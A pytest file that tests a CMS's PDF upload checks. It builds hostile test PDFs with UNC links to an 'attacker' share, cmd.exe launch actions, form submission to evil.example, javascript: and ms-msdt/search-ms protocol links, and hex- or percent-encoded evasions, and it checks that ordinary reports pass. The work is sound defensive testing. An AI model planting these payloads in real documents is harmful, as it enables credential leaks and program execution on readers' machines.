"""The PDF checks (cms/pdf_checks.py): what active content they refuse, what ordinary reports they let through, and
that pypdf is loaded with the first PDF they read, not when the site starts."""

import io
import os
import subprocess
import sys
from pathlib import Path

import pytest

from cms.pdf_checks import UploadProblem, pdf_bytes_problem
from tests.child_env import child_env
from tests.pdfs import (
    action_on_click,
    action_on_open,
    action_on_page_open,
    annotation,
    embedded_file,
    javascript_on_open,
    launch_link,
    link_to,
    link_under_base,
    many_pages,
    one_page_writer,
    page_drawing,
    reference_xobject,
    report_with_links_and_a_form,
    tagged_report_with_an_inline_image,
    written,
    xfa_form,
)

ROOT = Path(__file__).resolve().parent.parent.parent


def test_starting_the_site_leaves_pypdf_unloaded_until_a_pdf_is_checked():
    code = (
        "import sys, django; django.setup(); from django.urls import get_resolver; get_resolver().url_patterns; "
        "from django.core.wsgi import get_wsgi_application; get_wsgi_application(); print('pypdf' in sys.modules); "
        "from cms.pdf_checks import pdf_bytes_problem; from tests.factories.advice_forms import pdf_bytes; "
        "print(pdf_bytes_problem(pdf_bytes()), 'pypdf' in sys.modules)"
    )
    env = child_env(DJANGO_SETTINGS_MODULE=os.environ.get("DJANGO_SETTINGS_MODULE", "settings.test"))

    result = subprocess.run([sys.executable, "-c", code], cwd=ROOT, env=env, capture_output=True, text=True, check=True)

    assert result.stdout.split() == ["False", "None", "True"]


UNC = rb"(\\\\attacker\\share\\x.pdf)"  # the PDF string for \\attacker\share\x.pdf

P = UploadProblem
DRAWN, OUTSIDE = P.DRAWN_FROM_ANOTHER_FILE, P.OUTSIDE_FILE
# Built when the tests are collected: raw bytes, no pypdf.
REFUSED = [
    ("xfa", xfa_form(), P.XFA_FORM),
    ("xfa-hex-escaped-key", xfa_form(b"/XF#41"), P.XFA_FORM),
    ("gotor-unc-on-open", action_on_open(b"<< /S /GoToR /F %b /D [0 /Fit] >>" % UNC), P.LAUNCH),
    ("gotor-hex-escaped", action_on_open(b"<< /S /Go#54o#52 /F %b /D [0 /Fit] >>" % UNC), P.LAUNCH),
    ("gotor-indirect-name", action_on_open(b"<< /S 4 0 R /F %b >>" % UNC, b"/GoToR"), P.LAUNCH),
    ("gote-on-click", action_on_click(b"<< /S /GoToE /F %b /T << /R /C /N (x) >> >>" % UNC), P.LAUNCH),
    (
        "submitform-on-click",
        action_on_click(b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>"),
        P.SUBMIT,
    ),
    ("submitform-hex-escaped", action_on_click(b"<< /S /Submit#46orm /F (https://evil.example/) >>"), P.SUBMIT),
    ("importdata-on-open", action_on_open(b"<< /S /ImportData /F %b >>" % UNC), P.LAUNCH),
    ("launch-in-page-aa", action_on_page_open(b"<< /S /Launch /F (cmd.exe) >>"), P.LAUNCH),
    ("thread-in-another-file", action_on_click(b"<< /S /Thread /F %b /D 0 >>" % UNC), P.LAUNCH),
    ("sound-in-page-aa", action_on_page_open(b"<< /S /Sound /Sound << /R 8000 >> >>"), P.MEDIA),
    ("movie-on-click", action_on_click(b"<< /S /Movie /T (clip) >>"), P.MEDIA),
    ("rendition-on-open", action_on_open(b"<< /S /Rendition /OP 0 >>"), P.MEDIA),
    ("richmediaexecute-on-click", action_on_click(b"<< /S /RichMediaExecute /TA 5 0 R >>"), P.MEDIA),
    ("file-uri", link_to(b"(file:///C:/Users/Public/x.pdf)"), P.FILE_LINK),
    ("file-uri-uppercase-after-spaces", link_to(b"(  FILE://attacker/share/x.pdf)"), P.FILE_LINK),
    ("file-uri-hex-string", link_to(b"<%b>" % b"file://attacker/x".hex().encode()), P.FILE_LINK),
    ("unc-uri", link_to(UNC), P.FILE_LINK),
    ("unc-uri-forward-slashes", link_to(b"(//attacker/share/x.pdf)"), P.FILE_LINK),
    ("smb-uri", link_to(b"(smb://attacker/share/x.pdf)"), P.FILE_LINK),
    ("drive-letter-uri", link_to(rb"(C:\\Windows\\system32\\calc.exe)"), P.FILE_LINK),
    ("file-base-uri", action_on_open(b"<< /S /GoTo /D [3 0 R /Fit] >> /URI << /Base (file://host/s/) >>"), P.FILE_LINK),
    ("javascript-uri", link_to(b"(javascript:alert(1))"), P.SCRIPT),
    # Links that are neither web, email nor phone links open a program, which may fetch a network share: only
    # http:, https:, mailto:, tel:, relative links and fragments are let through.
    ("search-ms-uri", link_to(rb"(search-ms:query=x&crumb=location:\\\\host\\share)"), P.FILE_LINK),
    ("ms-msdt-uri", link_to(b"(ms-msdt:/id PCWDiagnostic /skip force /param IT_BrowseForFile=x)"), P.FILE_LINK),
    ("ms-officecmd-uri", link_to(b'(ms-officecmd:{"id":3,"LocalProviders.LaunchOfficeAppForResult":{}})'), P.FILE_LINK),
    ("ms-word-uri", link_to(rb"(ms-word:ofe|u|\\\\host\\x.docx)"), P.FILE_LINK),
    ("unknown-scheme-uppercase", link_to(b"(MS-MSDT:/id PCWDiagnostic)"), P.FILE_LINK),
    ("unknown-scheme-after-spaces-and-controls", link_to(b"( \000\t\r\n search-ms:query=x)"), P.FILE_LINK),
    ("unknown-scheme-broken-by-a-tab", link_to(b"(search-\tms:query=x)"), P.FILE_LINK),
    ("unknown-scheme-after-a-zero-width-space", link_to(b"<feff200b006d0073002d006d007300640074003a>"), P.FILE_LINK),
    (
        "unknown-scheme-utf16-hex-string",
        link_to(b"<feff%b>" % "ms-msdt:x".encode("utf-16-be").hex().encode()),
        P.FILE_LINK,
    ),
    ("unknown-scheme-percent-encoded", link_to(b"(%73earch-ms:query=x)"), P.FILE_LINK),
    ("unknown-scheme-percent-encoded-twice", link_to(b"(ms-msdt%253A/id PCWDiagnostic)"), P.FILE_LINK),
    ("unc-uri-percent-encoded", link_to(b"(%5C%5Chost%5Cshare)"), P.FILE_LINK),
    ("unknown-scheme-base-uri", link_under_base(b"(x.docx)", b"(ms-word:ofe|u|https://host/)"), P.FILE_LINK),
    ("relative-uri-under-unc-base", link_under_base(b"(x.pdf)", rb"(\\\\host\\share\\)"), P.FILE_LINK),
    # A stream whose data is in another file (/F, read through /FFilter), and a reference XObject: the viewer
    # opens that file to draw the page, so a UNC path leaks as a link to one does.
    ("stream-in-unc-file", page_drawing(b"", b"/F %b" % UNC), P.DRAWN_FROM_ANOTHER_FILE),
    ("stream-in-url-file", page_drawing(b"", b"/F << /FS /URL /F (https://e.example/) >>"), DRAWN),
    ("stream-external-filter", page_drawing(b"", b"/FFilter /FlateDecode"), P.DRAWN_FROM_ANOTHER_FILE),
    ("stream-external-hex-escaped", page_drawing(b"", b"/#46 %b" % UNC), P.DRAWN_FROM_ANOTHER_FILE),
    ("stream-external-with-content", page_drawing(b"BT ET", b"/F %b /DL 5" % UNC), P.DRAWN_FROM_ANOTHER_FILE),
    ("reference-xobject", reference_xobject(UNC), P.DRAWN_FROM_ANOTHER_FILE),
    ("reference-xobject-hex-escaped", reference_xobject(UNC, b"/R#65f", b"/F#6frm"), P.DRAWN_FROM_ANOTHER_FILE),
    # Sound and video annotations play a file, often named outright (/Movie /F is a file specification, here a
    # bare string); a file specification without an embedded file (/AF, associated files) names one outside.
    ("movie-annotation-unc", annotation(b"/Subtype /Movie /Movie << /F %b >>" % UNC), P.MEDIA),
    ("movie-annotation-hex-escaped", annotation(b"/Subtype /Mo#76ie /Movie << /F %b >>" % UNC), P.MEDIA),
    ("screen-annotation", annotation(b"/Subtype /Screen /MK << >>"), P.MEDIA),
    ("sound-annotation", annotation(b"/Subtype /Sound /Name /Speaker"), P.MEDIA),
    (
        "associated-file-outside-in-catalog",
        action_on_open(
            b"<< /S /GoTo /D [3 0 R /Fit] >> /AF [4 0 R]", b"<< /Type /Filespec /F %b /AFRelationship /Source >>" % UNC
        ),
        P.OUTSIDE_FILE,
    ),
    (
        "associated-file-embedded-in-catalog",
        action_on_open(
            b"<< /S /GoTo /D [3 0 R /Fit] >> /AF [4 0 R]",
            b"<< /Type /Filespec /F (notes.txt) /EF << /F 5 0 R >> /AFRelationship /Data >>",
            b"<< /Type /EmbeddedFile /Length 5 >>\nstream\nnotes\nendstream",
        ),
        P.EMBEDDED,
    ),
    ("associated-file-untyped-on-annotation", annotation(b"/Subtype /Text /AF [<< /F %b >>]" % UNC), P.OUTSIDE_FILE),
    ("filespec-hex-escaped-type", annotation(b"/Subtype /Text /X << /Type /Files#70ec /F %b >>" % UNC), P.OUTSIDE_FILE),
    ("filespec-url-file-system", annotation(b"/Subtype /Text /X << /FS /URL /F (https://e.example/) >>"), OUTSIDE),
    ("filespec-unicode-name", annotation(b"/Subtype /Text /X << /UF %b >>" % UNC), P.OUTSIDE_FILE),
    ("opi-image-from-outside", annotation(b"/Subtype /Text /OPI << /2.0 << /Type /OPI /F %b >> >>" % UNC), OUTSIDE),
    # Email links that ask the mail program to attach a file from a share.
    ("mailto-attach-unc", link_to(rb"(mailto:x@example.org?attach=\\\\host\\share\\x)"), P.MAIL_ATTACHMENT),
    ("mailto-attachment-uppercase", link_to(b"(MAILTO:x@example.org?subject=Hi&ATTACHMENT=/x)"), P.MAIL_ATTACHMENT),
    ("mailto-attach-percent-encoded", link_to(b"(mailto:x@example.org?%2561ttach=%5C%5Chost%5Cx)"), P.MAIL_ATTACHMENT),
    ("mailto-attach-after-space", link_to(b"(mailto:x@example.org?subject=a& attach =x)"), P.MAIL_ATTACHMENT),
]


REFUSED_BY_CASE = {case: data for case, data, _ in REFUSED}


@pytest.mark.parametrize(("case", "data", "message"), REFUSED, ids=[case[0] for case in REFUSED])
def test_active_content_beyond_javascript_is_refused_with_its_own_message(case, data, message):
    assert pdf_bytes_problem(data) == message


def test_a_report_with_web_and_email_links_and_a_plain_fillable_field_is_accepted():
    from pypdf import PdfReader

    data = report_with_links_and_a_form()
    reader = PdfReader(io.BytesIO(data))

    assert reader.get_fields()["Name"]["/V"] == "Ariadne"
    assert [annotation["/Subtype"] for annotation in reader.pages[0]["/Annots"]] == ["/Widget"] + ["/Link"] * 3
    assert pdf_bytes_problem(data) is None


ACCEPTED_LINKS = [
    ("http", link_to(b"(http://www.example.org/)")),
    ("https", link_to(b"(https://www.nhs.uk/conditions/)")),
    ("mailto", link_to(b"(mailto:slt@example.org?subject=Advice%20request)")),
    ("tel", link_to(b"(tel:+441234567890)")),
    ("relative-under-https-base", link_under_base(b"(guidance/speech.pdf)", b"(https://www.example.org/)")),
    ("relative-with-a-colon-after-a-slash", link_under_base(b"(guidance/10:30.pdf)", b"(https://www.example.org/)")),
    ("fragment", link_to(b"(#section-2)")),
    ("empty", link_to(b"()")),
    ("https-uppercase", link_to(b"(HTTPS://WWW.EXAMPLE.ORG/)")),
    ("mailto-mixed-case-after-spaces", link_to(b"(  MailTo:slt@example.org )")),
    ("tel-after-a-newline", link_to(b"(\ntel:01234 567890)")),
    ("https-utf16-hex-string", link_to(b"<feff%b>" % "https://x.example/".encode("utf-16-be").hex().encode())),
    ("https-percent-encoded-query", link_to(b"(https://x.example/?next=a%3Ab%2F%2Fc)")),
    ("relative-under-https-base-folder", link_under_base(b"(speech.pdf)", b"(https://www.example.org/guidance/)")),
    ("sms", link_to(b"(sms:+447700900123)")),
    ("doi", link_to(b"(doi:10.1000/182)")),
    ("urn", link_to(b"(urn:isbn:9780140449136)")),
    ("apple-mail-data-detector", link_to(b"(X-Apple-Data-Detectors://0)")),
    ("mailto-with-subject-about-attachments", link_to(b"(mailto:slt@example.org?subject=attach%20the%20report)")),
]


@pytest.mark.parametrize(("case", "data"), ACCEPTED_LINKS, ids=[case[0] for case in ACCEPTED_LINKS])
def test_web_email_phone_and_relative_links_are_accepted(case, data):
    assert pdf_bytes_problem(data) is None


def test_the_hostile_link_files_carry_what_they_claim():
    from pypdf import PdfReader

    def target(data):
        return PdfReader(io.BytesIO(data)).pages[0]["/Annots"][0].get_object()["/A"]["/URI"]

    assert target(REFUSED_BY_CASE["search-ms-uri"]) == "search-ms:query=x&crumb=location:\\\\host\\share"
    assert target(REFUSED_BY_CASE["ms-word-uri"]) == "ms-word:ofe|u|\\\\host\\x.docx"
    # pypdf hands a string with a NUL in it over as bytes, not text
    assert target(REFUSED_BY_CASE["unknown-scheme-after-spaces-and-controls"]) == b" \x00\t\r\n search-ms:query=x"
    assert target(REFUSED_BY_CASE["unknown-scheme-after-a-zero-width-space"]) == "\u200bms-msdt:"
    assert target(REFUSED_BY_CASE["unknown-scheme-utf16-hex-string"]) == "ms-msdt:x"
    base = PdfReader(io.BytesIO(REFUSED_BY_CASE["relative-uri-under-unc-base"])).trailer["/Root"]["/URI"]["/Base"]
    assert base == "\\\\host\\share\\"


def test_the_hostile_test_files_carry_what_they_claim():
    from pypdf import PdfReader

    xfa = PdfReader(io.BytesIO(xfa_form(b"/XF#41")))
    assert b"app.alert(1)" in xfa.trailer["/Root"]["/AcroForm"]["/XFA"].get_data()
    on_open = PdfReader(io.BytesIO(action_on_open(b"<< /S /Go#54o#52 /F %b >>" % UNC)))
    assert on_open.trailer["/Root"]["/OpenAction"] == {"/S": "/GoToR", "/F": "\\\\attacker\\share\\x.pdf"}
    indirect = PdfReader(io.BytesIO(action_on_open(b"<< /S 4 0 R >>", b"/GoToR")))
    assert indirect.trailer["/Root"]["/OpenAction"]["/S"] == "/GoToR"


def test_f_and_ref_outside_stream_dictionaries_and_reference_xobjects_are_accepted():
    """/F is a stream's outside file only in a stream dictionary: an inline image's filter (/F /AHx) and an
    annotation's flags (/F 4) are left alone, as is a PDF 2.0 structure element's /Ref and a plain form XObject."""
    from pypdf import PdfReader

    data = tagged_report_with_an_inline_image()
    page = PdfReader(io.BytesIO(data)).pages[0]

    assert b"/F /AHx" in page.get_contents().get_data()
    assert len(page.images) == 1  # the inline image, decoded through the filter its /F names
    assert pdf_bytes_problem(data) is None


def test_the_hostile_stream_files_carry_what_they_claim():
    from pypdf import PdfReader

    external = PdfReader(io.BytesIO(page_drawing(b"", b"/#46 %b" % UNC))).pages[0]["/Contents"]
    assert external["/F"] == "\\\\attacker\\share\\x.pdf"
    form = PdfReader(io.BytesIO(reference_xobject(UNC, b"/R#65f", b"/F#6frm"))).pages[0]["/Resources"]["/XObject"]["/X"]
    assert (form["/Subtype"], form["/Ref"]["/F"]) == ("/Form", "\\\\attacker\\share\\x.pdf")


def _portal_pdf() -> bytes:
    """A casework PDF as the portal makes it (cms.pdf, WeasyPrint, tagged PDF/UA-1): headings, a table, a list,
    links, a picture and an SVG drawing."""
    import base64

    from django.template import engines

    from cms import pdf

    gif = base64.b64encode(base64.b64decode("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7")).decode()
    svg = base64.b64encode(
        b'<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20"><circle r="9" cx="10" cy="10"/></svg>'
    ).decode()
    template = engines["django"].from_string(
        '{% extends "advice_forms/pdf/base.html" %}{% block title %}Advice{% endblock %}{% block content %}'
        "<h1>Advice for Ariadne</h1><h2>Needs</h2><ul><li>Speech</li><li>Reading</li></ul>"
        '<table><thead><tr><th scope="col">Need</th><th scope="col">Provision</th></tr></thead>'
        "<tbody><tr><td>Speech</td><td>Weekly therapy</td></tr></tbody></table>"
        '<p><a href="https://www.nhs.uk/">NHS</a> and <a href="mailto:slt@example.org">email</a></p>'
        f'<img src="data:image/gif;base64,{gif}" alt="A dot"><img src="data:image/svg+xml;base64,{svg}" alt="A ring">'
        "{% endblock %}"
    )
    return pdf.html_to_pdf(template.render({}))


def test_ordinary_pdfs_pass_the_checks():
    writer = one_page_writer()
    writer.add_blank_page(width=200, height=200)
    portal = _portal_pdf()

    from pypdf import PdfReader

    made = PdfReader(io.BytesIO(portal))
    assert "/StructTreeRoot" in made.trailer["/Root"]
    assert len(made.pages[0].images) == 1
    assert [annotation["/Subtype"] for annotation in made.pages[0]["/Annots"]] == ["/Link"] * 2
    for data in (written(writer), report_with_links_and_a_form(), many_pages(pages=3, per_node=1), portal):
        assert pdf_bytes_problem(data) is None


def test_the_older_hostile_builders_stay_refused():
    assert pdf_bytes_problem(javascript_on_open()) == P.SCRIPT
    assert pdf_bytes_problem(launch_link()) == P.LAUNCH
    assert pdf_bytes_problem(embedded_file()) == P.EMBEDDED


def test_a_link_that_opens_a_program_is_refused_in_words_that_say_so():
    problem = pdf_bytes_problem(link_to(b"(ms-msdt:/id PCWDiagnostic)"))

    assert problem == (
        "The selected file contains a link that opens a program or a file on a computer or network drive. Remove "
        "the link (or print the file to PDF) and upload it again"
    )


@pytest.mark.parametrize(
    ("target", "scheme"),
    [
        (b"(ftp://ftp.example.org/report.pdf)", "ftp:"),
        (b"(FTP://ftp.example.org/)", "ftp:"),
        (b"(zoommtg://x)", "zoommtg:"),
    ],
)
def test_a_link_of_another_kind_is_refused_naming_its_scheme_in_plain_words(target, scheme):
    assert pdf_bytes_problem(link_to(target)) == (
        f"The selected file contains a link of a kind the portal cannot check ({scheme}). Remove the link, or print "
        "the file to PDF, and upload it again"
    )


@pytest.mark.parametrize("target", ["caf\u00e9:x", "a_b:x", "x" * 40 + ":y", "www.example.com:8080/x"])
def test_a_link_whose_scheme_is_no_plain_name_is_refused_without_naming_it(target):
    data = link_to(b"<feff%b>" % target.encode("utf-16-be").hex().encode())

    assert pdf_bytes_problem(data) == P.UNCHECKED_LINK_UNNAMED


PLAIN_WORDS = {
    "stream-in-unc-file": "The selected file draws part of a page from another file, which a PDF reader would open "
    "to show it. Save it again as a plain PDF (for example, print it to PDF) and upload that",
    "associated-file-outside-in-catalog": "The selected file refers to another file, on a computer, a network drive "
    "or the internet, that a PDF reader may open. Save it again as a plain PDF (for example, print it to PDF) and "
    "upload that",
    "mailto-attach-unc": "The selected file contains an email link that attaches a file from a computer or network "
    "drive. Remove the link (or print the file to PDF) and upload it again",
    "movie-annotation-unc": "The selected file contains sound or video, or an action that plays them. Save it again "
    "without them (for example, print it to PDF) and upload that",
}


@pytest.mark.parametrize(("case", "words"), PLAIN_WORDS.items(), ids=list(PLAIN_WORDS))
def test_the_new_refusals_speak_plainly_of_what_the_file_does(case, words):
    assert pdf_bytes_problem(REFUSED_BY_CASE[case]) == words


def test_the_hostile_file_specification_files_carry_what_they_claim():
    from pypdf import PdfReader

    def first_annotation(data):
        return PdfReader(io.BytesIO(data)).pages[0]["/Annots"][0].get_object()

    movie = first_annotation(REFUSED_BY_CASE["movie-annotation-hex-escaped"])
    assert (movie["/Subtype"], movie["/F"], movie["/Movie"]["/F"]) == ("/Movie", 4, "\\\\attacker\\share\\x.pdf")
    catalog = PdfReader(io.BytesIO(REFUSED_BY_CASE["associated-file-outside-in-catalog"])).trailer["/Root"]
    assert catalog["/AF"][0]["/F"] == "\\\\attacker\\share\\x.pdf"
    assert first_annotation(REFUSED_BY_CASE["filespec-hex-escaped-type"])["/X"]["/Type"] == "/Filespec"
    mail = first_annotation(REFUSED_BY_CASE["mailto-attach-unc"])["/A"]["/URI"]
    assert mail == "mailto:x@example.org?attach=\\\\host\\share\\x"
